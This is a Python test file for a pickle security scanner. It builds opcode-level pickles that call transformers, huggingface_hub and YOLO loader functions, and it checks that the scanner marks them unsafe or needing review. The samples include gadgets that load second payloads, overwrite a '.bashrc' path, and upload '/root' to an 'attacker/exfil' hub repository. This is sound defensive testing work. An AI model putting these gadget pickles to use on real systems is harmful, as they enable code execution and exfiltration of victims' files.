"""transformers callables that load a second payload (docs/attacks.md, PK-33).

transformers has no Debian 12 package, so the dangerous sweep cannot read it, and benign.toml
clears `transformers.models.*` and `transformers.modeling_utils.*` by wildcard. The callables of
the published advisories are named by hand in rules/libraries.toml, and so are whole classes
the wildcard would otherwise clear: every conversion script (`transformers.models.*.convert_*`,
a name glob, so a model nobody listed is covered too) and the methods that write or upload
(`save_pretrained`, `push_to_hub`, `to_json_file`: attribute names in rules/stdlib.toml). A
pickle calling one must scan `unsafe` with the action (and the attacker's path where the rule
names an argument) in the summary, while the benign transformers objects beside them stay
cleared. The pickles are written opcode by opcode (the library is not installed; nothing is
ever called)."""

import os
import sys
import tempfile
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import mvtest  # noqa: E402


def op_global(dotted):
    mod, _, name = dotted.rpartition(".")
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def op_str(s):
    b = s.encode()
    return b"X" + len(b).to_bytes(4, "little") + b


def call(dotted, *args):
    """PROTO 2, `dotted(*args)`; ints as BININT1, str as BINUNICODE, None as NONE."""
    body = b""
    for a in args:
        if a is None:
            body += b"N"
        elif isinstance(a, int):
            body += b"K" + bytes([a])
        else:
            body += op_str(a)
    return b"\x80\x02" + op_global(dotted) + b"(" + body + b"tR."


def call_method(module, qualname, *args):
    """PROTO 4, STACK_GLOBAL(module, "Class.method") called with str arguments (None for self)."""
    def short(t):
        b = t.encode()
        return b"\x8c" + bytes([len(b)]) + b
    body = b"".join(b"N" if a is None else op_str(a) for a in args)
    return b"\x80\x04" + short(module) + short(qualname) + b"\x93(" + body + b"tR."


EVIL = "/tmp/mv-evil-dir"
TFXL = "transformers.models.deprecated.transfo_xl.tokenization_transfo_xl"
# name -> (pickle, text the summary must hold)
CASES = {
    "transfo-xl-tokenizer": (
        call(f"{TFXL}.TransfoXLTokenizer", None, 0, None, 0, None, None, EVIL + "/vocab.pkl"),
        f"unpickles a vocabulary file (its code runs) `{EVIL}/vocab.pkl`"),
    "transfo-xl-corpus-old-module": (
        call("transformers.models.transfo_xl.tokenization_transfo_xl.TransfoXLCorpus",
             None, 0, None, 0, None, None, EVIL + "/vocab.pkl"),
        f"unpickles a vocabulary file (its code runs) `{EVIL}/vocab.pkl`"),
    "transfo-xl-lm-corpus": (
        call(f"{TFXL}.get_lm_corpus", EVIL, "wt103"),
        f"unpickles a cached corpus (its code runs) `{EVIL}`"),
    "rag-legacy-index": (
        call("transformers.models.rag.retrieval_rag.LegacyIndex", 128, EVIL),
        f"downloads and unpickles a document index (its code runs) `{EVIL}`"),
    "rag-retriever": (
        call("transformers.models.rag.retrieval_rag.RagRetriever", 1, 2, 3),
        "builds the document index its config names"),
    "load-state-dict": (
        call("transformers.modeling_utils.load_state_dict", EVIL + "/pytorch_model.bin"),
        f"loads another payload (its code runs) `{EVIL}/pytorch_model.bin`"),
    "trax-conversion": (
        call("transformers.models.reformer.convert_reformer_trax_checkpoint_to_pytorch."
             "convert_trax_checkpoint_to_pytorch", EVIL + "/model.pkl", "c.json", "out"),
        "loads an original checkpoint or config (its code runs)"),
    # Conversion scripts no rule names one by one: the glob covers every model's.
    "bert-tf-conversion": (
        call("transformers.models.bert.convert_bert_original_tf_checkpoint_to_pytorch."
             "convert_tf_checkpoint_to_pytorch", EVIL + "/model.ckpt", "c.json", "out"),
        "loads an original checkpoint or config (its code runs)"),
    "llama-conversion": (
        call("transformers.models.llama.convert_llama_weights_to_hf.write_model", "out", EVIL),
        "loads an original checkpoint or config (its code runs)"),
    "deprecated-model-conversion": (
        call("transformers.models.deprecated.van.convert_van_to_pytorch.convert_weights",
             "van-base", EVIL, "out"),
        "loads an original checkpoint or config (its code runs)"),
    # Methods every model, tokenizer and config has, which write or upload.
    "save-pretrained": (
        call_method("transformers.models.bert.modeling_bert", "BertModel.save_pretrained",
                    None, EVIL),
        "writes model files where it is told"),
    "config-to-json-file": (
        call_method("transformers.configuration_utils", "PretrainedConfig.to_json_file",
                    None, EVIL + "/.bashrc"),
        "writes model files where it is told"),
    "push-to-hub": (
        call_method("transformers.models.bert.tokenization_bert", "BertTokenizer.push_to_hub",
                    None, "attacker/exfil"),
        "uploads files to a hub repository"),
    "hub-upload-folder": (
        call("huggingface_hub.hf_api.upload_folder", "attacker/exfil", "/root"),
        "uploads files to a hub repository"),
    # YOLO weight loaders under the benign ultralytics.nn.* / models.experimental.* wildcards.
    "ultralytics-attempt-load": (
        call("ultralytics.nn.tasks.attempt_load_weights", EVIL + "/yolo.pt"),
        f"loads another payload (its code runs) `{EVIL}/yolo.pt`"),
    "yolov5-attempt-load": (
        call("models.experimental.attempt_load", EVIL + "/yolov5s.pt"),
        f"loads another payload (its code runs) `{EVIL}/yolov5s.pt`"),
}
# Functions and methods called under a wildcard over a library nobody could sweep (category
# unswept-library): its classes are cleared, a call of a snake_case name needs review, with the
# library named; so does a direct call of a class whose __init__ loads (rebuild-only).
UNVETTED = {
    "datasets-save-to-disk": (
        call_method("datasets.arrow_dataset", "Dataset.save_to_disk", None, EVIL),
        "calls `datasets.arrow_dataset.Dataset.save_to_disk`, a function of datasets no rule "
        "has vetted"),
    "sentence-transformers-dense-load": (
        call("sentence_transformers.models.Dense.load", EVIL),
        "calls `sentence_transformers.models.Dense.load`, a function of sentence_transformers"),
    "catboost-save-model": (
        call_method("catboost.core", "CatBoost.save_model", None, EVIL),
        "calls `catboost.core.CatBoost.save_model`, a function of catboost"),
    # A class whose __init__ downloads and loads a model (rebuild-only): called directly.
    "sentence-transformers-transformer-init": (
        call("sentence_transformers.models.Transformer", "attacker/repo"),
        "calls sentence_transformers.models.Transformer directly (its __init__ can act"),
}
# Benign objects of the same modules' neighbours stay cleared by benign.toml's wildcards.
BENIGN = {
    "rag-config": b"\x80\x02" + op_global("transformers.models.rag.configuration_rag.RagConfig")
    + b")\x81}b.",
    "bert-tokenizer": b"\x80\x02"
    + op_global("transformers.models.bert.tokenization_bert.BertTokenizer") + b")\x81}b.",
    # A model whose name starts like the conversion scripts' (convnext, not convert_*).
    "convnext-config": b"\x80\x02"
    + op_global("transformers.models.convnext.configuration_convnext.ConvNextConfig")
    + b")\x81}b.",
}


class TransformersGadgets(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.TemporaryDirectory()
        named = {n: c[0] for n, c in (CASES | UNVETTED).items()} | BENIGN
        cls.paths, cls.got = mvtest.scan_named_pickles(cls.tmp.name, named)

    @classmethod
    def tearDownClass(cls):
        cls.tmp.cleanup()

    def test_loaders_of_second_payloads_are_unsafe_with_their_action(self):
        for name, (_, want) in CASES.items():
            with self.subTest(name):
                e = self.got[os.path.realpath(self.paths[name])]
                self.assertEqual(e["verdict"], "unsafe", e)
                self.assertIn(want, e["summary"])

    def test_unvetted_functions_of_unswept_libraries_need_review(self):
        for name, (_, want) in UNVETTED.items():
            with self.subTest(name):
                e = self.got[os.path.realpath(self.paths[name])]
                self.assertEqual(e["verdict"], "needs-review", e)
                self.assertIn(want, e["summary"])

    def test_benign_transformers_objects_stay_safe(self):
        for name in BENIGN:
            with self.subTest(name):
                e = self.got[os.path.realpath(self.paths[name])]
                self.assertEqual(e["verdict"], "safe", e)


if __name__ == "__main__":
    mvtest.main()
